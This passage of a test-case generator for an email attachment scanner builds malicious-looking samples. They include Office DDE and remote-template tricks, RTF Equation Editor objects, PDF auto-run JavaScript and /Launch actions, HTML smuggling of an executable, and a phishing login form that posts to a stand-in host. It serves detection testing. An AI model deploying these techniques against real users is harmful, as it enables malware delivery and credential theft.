                 '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                 'Target="http://templates-cdn.invalid/normal.dotm" TargetMode="External"/>'
                 '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
                 'Target="https://www.example.com/" TargetMode="External"/>'
                 '</Relationships>')
write("docx_remote_template", """
# Remote template injection: the macros arrive when the document opens, after the gateway.
expect: OOXML_REMOTE_TEMPLATE at attachment offer.docx > word/_rels/settings.xml.rels
expect-not: OOXML_EXTERNAL_RELATIONSHIP
expect-risk: high
""", message("Offer", "Offer attached.",
             [("offer.docx", DOCX_MIME, docx([("word/_rels/settings.xml.rels", TEMPLATE_RELS.encode())]))]))

write("docx_unc_template", """
# A template on a file share: ordinary in companies, but it can leak the user's NTLM hash.
expect: OOXML_EXTERNAL_RELATIONSHIP at attachment memo.docx > word/_rels/settings.xml.rels
expect-not: OOXML_REMOTE_TEMPLATE
""", message("Memo", "Memo attached.",
             [("memo.docx", DOCX_MIME, docx([("word/_rels/settings.xml.rels", TEMPLATE_RELS.replace("http://templates-cdn.invalid/normal.dotm", "file://fileserver/templates/normal.dotm").encode())]))]))

write("docx_dde", """
expect: OFFICE_DDE at attachment notice.docx > word/document.xml
expect-risk: high
""", message("Notice", "Notice attached.",
             [("notice.docx", DOCX_MIME, docx([], body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'))]))

write("docx_embedded_package_activex", """
# An embedded OLE object holding a script (Package), and an ActiveX control.
expect: OOXML_EMBEDDED_OBJECT at attachment form.docx > word/embeddings/oleObject1.bin
expect: OFFICE_EMBEDDED_PACKAGE at attachment form.docx > word/embeddings/oleObject1.bin > update.js
expect: SCRIPT_EXECUTES at attachment form.docx > word/embeddings/oleObject1.bin > update.js
expect: OOXML_ACTIVEX at attachment form.docx > word/activeX/activeX1.xml
""", message("Form", "Form attached.",
             [("form.docx", DOCX_MIME, docx([("word/embeddings/oleObject1.bin", DOCS["package.bin"]),
                                              ("word/activeX/activeX1.xml", b'<ax:ocx ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>')]))]))

def ole1(cls, native):
    c = cls.encode() + b"\0"
    return (struct_pack("<II", 0x0501, 2) + struct_pack("<I", len(c)) + c + struct_pack("<I", 0)
            + struct_pack("<I", 0) + struct_pack("<I", len(native)) + native)


def struct_pack(fmt, *v):
    import struct
    return struct.pack(fmt, *v)


def rtf_object(cls, native, extra=""):
    h = ole1(cls, native).hex()
    # Hex broken by whitespace and an ignorable group, as exploit builders do.
    h = h[:20] + "\r\n  {\\*\\datastore 00}" + h[20:]
    return ("{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 Quotation attached.\\par"
            "{\\object\\objemb" + extra + "{\\*\\objclass " + cls + "}\\objw10\\objh10{\\*\\objdata " + h + "}}}").encode()


write("rtf_equation_editor", """
# The issue's RTF sample: an Equation.3 object header, updating itself on open.
expect: RTF_OBJECT at attachment quote.rtf > object 1 (Equation.3)
expect: OFFICE_EQUATION_EDITOR at attachment quote.rtf > object 1 (Equation.3)
expect: RTF_OBJUPDATE at attachment quote.rtf > object 1 (Equation.3)
expect-risk: high
""", message("Quotation", "Quotation attached.",
             [("quote.rtf", "application/rtf", rtf_object("Equation.3", b"\x1c\x00\x00\x00\x02\x00\x9e\xc4" + b"\x90" * 32, "\\objupdate"))]))

write("rtf_named_doc_equation_editor_floor", """
# An RTF named .doc embedding only an Equation Editor object: its score alone (10.5) would
# only tag; the exploit family's threat floor quarantines it at high risk.
expect: OFFICE_EQUATION_EDITOR at attachment order.doc > object 1 (Equation.3)
expect-action: quarantine
expect-risk: high
""", message("Order", "Order attached.",
             [("order.doc", "application/msword", rtf_object("Equation.3", b"\x1c\x00\x00\x00\x02\x00\x9e\xc4" + b"\x90" * 32))]))

pkg = bytearray()
pkg += (2).to_bytes(2, "little") + b"run.js\0C:\\run.js\0" + bytes([0, 0, 3, 0])
tmp = b"C:\\run.js\0"
pkg += len(tmp).to_bytes(4, "little") + tmp
payload = JS_DROPPER.encode()
pkg += len(payload).to_bytes(4, "little") + payload
write("rtf_package_script", """
# A Package object: a script dropped into the document, extracted and analysed.
expect: OFFICE_EMBEDDED_PACKAGE at attachment notice.rtf > object 1 (Package)
expect: SCRIPT_DOWNLOADER at attachment notice.rtf > object 1 (Package) > run.js
""", message("Notice", "Notice attached.",
             [("notice.rtf", "application/rtf", rtf_object("Package", bytes(pkg)))]))


def pdf(objects, trailer_extra=""):
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects)+1}\n0000000000 65535 f \n".encode()
    for o in offsets:
        out += f"{o:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects)+1} /Root 1 0 R {trailer_extra}>>\nstartxref\n{xref}\n%%EOF\n".encode()
    return out


def flate_stream(dict_extra, data):
    import zlib
    z = zlib.compress(data)
    return f"<< /Length {len(z)} /Filter /FlateDecode {dict_extra}>>\nstream\n".encode() + z + b"\nendstream"


js = b"var u = 'http://invoice-cdn.invalid/view'; app.alert('Loading document...'); this.submitForm(u);"
write("pdf_openaction_javascript", """
# The issue's PDF sample: JavaScript run on open, kept in a compressed stream.
expect: PDF_JAVASCRIPT at attachment statement.pdf > JavaScript
expect: PDF_AUTO_ACTION at attachment statement.pdf
expect: PDF_AUTO_JAVASCRIPT at attachment statement.pdf > JavaScript
expect-risk: medium
""", message("Statement", "Statement attached.", [("statement.pdf", "application/pdf", pdf([
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    b"<< /Type /Action /S /JavaScript /JS 5 0 R >>",
    flate_stream("", js),
]))]))

write("pdf_launch_embedded_obfuscated", """
# /Launch spelled with #xx escapes, an embedded script file, a form that submits, a link.
expect: PDF_LAUNCH at attachment form.pdf
expect: PDF_OBFUSCATED_NAMES at attachment form.pdf
expect: PDF_EMBEDDED_FILE at attachment form.pdf > payload.vbs
expect: SCRIPT_EXECUTES at attachment form.pdf > payload.vbs
expect: PDF_SUBMIT_FORM at attachment form.pdf
expect: DOCUMENT_URLS at attachment form.pdf
""", message("Form", "Form attached.", [("form.pdf", "application/pdf", pdf([
    b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(payload.vbs) 5 0 R] >> >> /OpenAction 4 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Link /A << /S /URI /URI (http://invoice-cdn.invalid/login) >> >>] >>",
    b"<< /Type /Action /S /L#61unch /Win << /F (cmd.exe) /P (/c payload.vbs) >> /Next << /S /SubmitForm /F (http://invoice-cdn.invalid/collect) >> >>",
    b"<< /Type /Filespec /F (payload.vbs) /UF (payload.vbs) /EF << /F 6 0 R >> >>",
    flate_stream("/Type /EmbeddedFile", b'CreateObject("WScript.Shell").Run "calc", 0'),
]))]))

write("pdf_plain", """
# An ordinary PDF: a page, a font, a link.
expect-not: PDF_JAVASCRIPT PDF_AUTO_JAVASCRIPT PDF_LAUNCH PDF_EMBEDDED_FILE PDF_OBFUSCATED_NAMES PDF_SUBMIT_FORM
""", message("Minutes", "Minutes attached.", [("minutes.pdf", "application/pdf", pdf([
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Annots [<< /Subtype /Link /A << /S /URI /URI (https://www.example.com/) >> >>] >>",
    flate_stream("", b"BT /F1 12 Tf 72 720 Td (Minutes of the meeting) Tj ET"),
]))]))

write("hwp_script", """
# The issue's HWP sample: a document script that starts PowerShell to fetch a file.
expect: HWP_SCRIPT at attachment 견적서.hwp > Scripts/DefaultJScript
expect: SCRIPT_EXECUTES at attachment 견적서.hwp > Scripts/DefaultJScript
expect: SCRIPT_DOWNLOADER at attachment 견적서.hwp > Scripts/DefaultJScript
expect: DOCUMENT_URLS at attachment 견적서.hwp
expect-risk: medium
""", message("견적서 송부", "견적서를 보내드립니다.", [("견적서.hwp", "application/x-hwp", DOCS["script.hwp"])]))

write("hwp_eps", """
expect: HWP_EPS at attachment 공문.hwp > BinData/BIN0001.eps
expect-not: HWP_SCRIPT
expect-risk: high
""", message("공문", "공문을 보내드립니다.", [("공문.hwp", "application/x-hwp", DOCS["eps.hwp"])]))

write("hwp_ole_object", """
# An OLE object in BinData holding a script (Package): extracted and analysed.
expect: HWP_OLE_OBJECT at attachment 안내문.hwp > BinData/BIN0002.OLE
expect: OFFICE_EMBEDDED_PACKAGE at attachment 안내문.hwp > BinData/BIN0002.OLE > update.js
""", message("안내문", "안내문을 보내드립니다.", [("안내문.hwp", "application/x-hwp", DOCS["ole.hwp"])]))

write("pdf_encrypted", """
expect: PDF_ENCRYPTED at attachment secure.pdf
""", message("Secure", "Secure document attached.", [("secure.pdf", "application/pdf", pdf([
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [] /Count 0 >>",
    b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -1060 /O <00> /U <00> >>",
], trailer_extra="/Encrypt 3 0 R "))]))

def hwpx(parts):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/hwp+zip")
        for name, data in parts:
            z.writestr(name, data, zipfile.ZIP_DEFLATED)
    return buf.getvalue()


write("hwpx_script_and_eps", """
# HWPX (zip of XML): a script of its own, an EPS image, a link.
expect: HWP_SCRIPT at attachment 보고서.hwpx > Scripts/sourceScripts
expect: SCRIPT_EXECUTES at attachment 보고서.hwpx > Scripts/sourceScripts
expect: HWP_EPS at attachment 보고서.hwpx > BinData/image1.eps
expect: DOCUMENT_URLS at attachment 보고서.hwpx
expect-risk: high
""", message("보고서", "보고서를 보내드립니다.", [("보고서.hwpx", "application/hwp+zip", hwpx([
    ("Contents/section0.xml", '<hs:sec xmlns:hs="http://www.hancom.co.kr/hwpml/2011/section"><hp:p><hp:run><hp:t>자세한 내용은 http://portal-update.invalid/notice 참조</hp:t></hp:run></hp:p></hs:sec>'.encode()),
    ("Scripts/sourceScripts", "function OnDocument_Open() { var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c echo inert'); }".encode("utf-16-le")),
    ("BinData/image1.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nshowpage\n"),
]))]))

write("hwp_plain", """
# Every HWP file carries an empty script template: it is not a script.
expect-not: HWP_SCRIPT HWP_EPS SCRIPT_EXECUTES
""", message("회의록", "회의록입니다.", [("회의록.hwp", "application/x-hwp", DOCS["plain.hwp"])]))

smuggled = zip_bytes([("Invoice_4471.exe", INJECTOR)])
smuggle_page = ("<!DOCTYPE html><html><head><title>Invoice</title></head><body><p>Downloading your document...</p><script>\n"
                "var d = '" + base64.b64encode(smuggled).decode() + "';\n"
                "var b = atob(d); var a = new Uint8Array(b.length); for (var i = 0; i < b.length; i++) { a[i] = b.charCodeAt(i); }\n"
                "var blob = new Blob([a], {type: 'application/octet-stream'});\n"
                "if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(blob, 'Invoice_4471.zip'); }\n"
                "else { var l = document.createElement('a'); l.href = URL.createObjectURL(blob); l.download = 'Invoice_4471.zip'; l.click(); }\n"
                "</script></body></html>")
write("html_smuggling", """
# The issue's HTML smuggling page: a zip built in the browser; decoded and walked here.
expect: HTML_SMUGGLING at attachment Invoice_4471.html
expect: ARCHIVE_EXECUTABLE at attachment Invoice_4471.html > Invoice_4471.zip > Invoice_4471.exe
expect: PE_INJECTION_IMPORTS at attachment Invoice_4471.html > Invoice_4471.zip > Invoice_4471.exe
expect-risk: high
""", message("Invoice 4471", "Open the attached invoice.", [("Invoice_4471.html", "text/html", smuggle_page.encode())]))

phish = ('<html><head><title>Sign in to your Microsoft 365 account</title></head><body>'
         '<form method="post" action="https://collect.invalid/owa/login.php">'
         '<input type="email" name="login" value="bob@corp.example"><input type="password" name="passwd">'
         '<button>Sign in</button></form></body></html>')
write("html_credential_form", """
expect: HTML_CREDENTIAL_FORM at attachment Voicemail_0815.htm
expect: HTML_BRAND_LOGIN at attachment Voicemail_0815.htm
expect-risk: high
""", message("Voicemail received", "You have a new voicemail.", [("Voicemail_0815.htm", "text/html", phish.encode())]))

write("html_redirect", """
expect: HTML_REDIRECT at attachment Payment_Advice.html
""", message("Payment advice", "Payment advice attached.", [("Payment_Advice.html", "text/html",
    b'<html><head><meta http-equiv="refresh" content="0; url=https://payments-portal.invalid/advice"></head><body>Loading...</body></html>')]))

receipt = ('<!DOCTYPE html><html><head><title>Your receipt</title></head><body><h1>Thank you for your order</h1>'
           '<img src="data:image/png;base64,' + base64.b64encode(samples.high_entropy(3000, 9)).decode() + '">'
           '<p>Total: 42.00 EUR</p><a href="https://shop.example/orders/1">View order</a></body></html>')
write("html_receipt_clean", """
# A saved receipt: an inline image, a link, no form, no script.
expect-not: HTML_CREDENTIAL_FORM HTML_SMUGGLING HTML_REDIRECT SCRIPT_OBFUSCATED
""", message("Receipt", "Your receipt.", [("receipt.html", "text/html", receipt.encode())]))

write("docx_clean", """
# An ordinary .docx with a hyperlink: nothing to say.
expect-not: VBA_MACRO OOXML_EXTERNAL_RELATIONSHIP OFFICE_DDE OOXML_EMBEDDED_OBJECT
""", message("Quotation", "Quotation attached.",
             [("quote.docx", DOCX_MIME, docx([("word/_rels/document.xml.rels", TEMPLATE_RELS.split('<Relationship Id="rId1"')[0].encode()
                                                + b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.example.com/" TargetMode="External"/></Relationships>')]))]))


# --- Issue 8: variants ----------------------------------------------------------------------------
# A reference store with one known-malicious family (the JS dropper above) and one known-good
# script, made with `mailmoat intel add`; the case mails a variant the hash list cannot know.

def js_variant(src):
    v = src.replace("var a=", "var codes=").replace("a.length", "codes.length").replace("a[i]", "codes[i]")
    return ("// build 20261123\n" + v + "\n/* " + "x" * 200 + " */\n").encode()


store_path = HERE / "variants-store.jsonl"
store_path.unlink(missing_ok=True)
with tempfile.TemporaryDirectory() as d:
    cfg = pathlib.Path(d, "mailmoat.toml")
    cfg.write_text(f'[analyzers.variants]\nstore = "{store_path}"\n')
    bad = pathlib.Path(d, "dropper.js")
    bad.write_bytes(JS_DROPPER.encode())
    good = pathlib.Path(d, "report-builder.js")
    good.write_bytes(("// Builds the monthly report table.\n" + "".join(
        f"function row{i}(data) {{ var total = 0; for (var k = 0; k < data.length; k++) {{ total += data[k].amount; }} return '<tr><td>{i}</td><td>' + total.toFixed(2) + '</td></tr>'; }}\n"
        for i in range(12))).encode())
    run = ["cargo", "run", "-q", "-p", "mailmoat", "--", "intel", "add", "--config", str(cfg)]
    subprocess.run(run + ["--family", "Test.JsDropper", str(bad)], check=True)
    subprocess.run(run + ["--benign", str(good)], check=True)
    GOOD_JS = good.read_bytes()
# The store names no local paths: only hashes, names, vectors.
write("variant_of_known_dropper", """
# A variant of a stored family: renamed variables, a comment, padding. No hash matches it.
expect: SIMILAR_KNOWN_MALWARE at attachment invoice.zip > invoice.js
expect-not: HASH_KNOWN_BAD
config: [analyzers.variants]
config: store = "../analyzers/cases/variants-store.jsonl"
""", message("Invoice", "Invoice attached.",
             [("invoice.zip", ZIP, zip_bytes([("invoice.js", js_variant(JS_DROPPER))]))]))

write("variant_known_good_is_not_malware", """
# The known-good reference itself, and an unrelated script: no variant evidence.
expect-not: SIMILAR_KNOWN_MALWARE
config: [analyzers.variants]
config: store = "../analyzers/cases/variants-store.jsonl"
""", message("Report", "Report scripts attached.",
             [("scripts.zip", ZIP, zip_bytes([("report-builder.js", GOOD_JS), ("sum.js", SCRIPT * 40)]))]))

print("cases written to", HERE)
